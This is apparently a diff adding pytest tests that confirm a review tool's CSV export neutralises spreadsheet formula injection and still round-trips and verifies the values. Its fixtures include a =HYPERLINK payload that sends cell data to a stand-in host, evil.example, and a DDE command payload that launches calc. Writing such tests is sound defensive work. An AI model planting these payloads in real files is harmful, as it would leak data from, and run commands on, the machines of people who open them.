@@ -1,0 +1,71 @@
+"""CSV exports never hand a spreadsheet a formula: model output such as =HYPERLINK(...) in a
+value or a case id is written as text, and still reads back (and verifies) as the same string."""
+
+import csv
+import io
+
+import pytest
+
+from reviews.formats.reference import (
+    ApprovedReference,
+    decode_csv_value,
+    dump_reference_csv,
+    encode_csv_value,
+    iter_reference_csv,
+)
+from reviews.models import Role
+from reviews.services.approval import approve
+from tests.factories import PASSWORD, member
+from tests.reviews.test_formats_reference import reference
+from tests.reviews.test_trust_chain import _export_all, _verify
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    " =1",
+]
+RISKY = tuple("=+-@\t\r")
+
+
+def _cells(data: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_value_is_written_as_text_and_reads_back(text):
+    cell = encode_csv_value(text)
+    assert not cell.lstrip(" ").startswith(RISKY)
+    assert decode_csv_value(cell) == text
+
+
+def test_formula_case_ids_and_values_round_trip_through_the_csv():
+    ref = ApprovedReference.model_validate(
+        reference(
+            case_id="=cmd|' /C calc'!A0",
+            approval=None,
+            rows=[{"path": f"$.f{i}", "expected_value": text} for i, text in enumerate(FORMULAS)],
+        )
+    )
+    data = dump_reference_csv([ref])
+    assert not any(cell.lstrip(" ").startswith(RISKY) for cell in _cells(data))
+    rows = list(iter_reference_csv(io.BytesIO(data), file="refs.csv"))
+    assert {r.case_id for r in rows} == {"=cmd|' /C calc'!A0"}
+    assert [r.expected_value for r in rows] == FORMULAS
+
+
+def test_an_approved_formula_exports_as_text_and_still_verifies(
+    project, review_item, rate, tmp_path
+):
+    item = review_item(project, external_id="=case-1")
+    for n in (1, 2):
+        rate(member(project, Role.RATER, username=f"r{n}"), item, {"$.total": FORMULAS[0]})
+    approve(actor=member(project, Role.APPROVER), item=item, password=PASSWORD, confirmed=True)
+    folder = _export_all(project, tmp_path)
+    csv_file = folder / f"{project.slug}-ground-truth.csv"
+    cells = _cells(csv_file.read_bytes())
+    assert FORMULAS[0] not in cells and not any(c.startswith(RISKY) for c in cells)
+    ok, out = _verify(csv_file)
+    assert ok and "OK   =case-1" in out, out
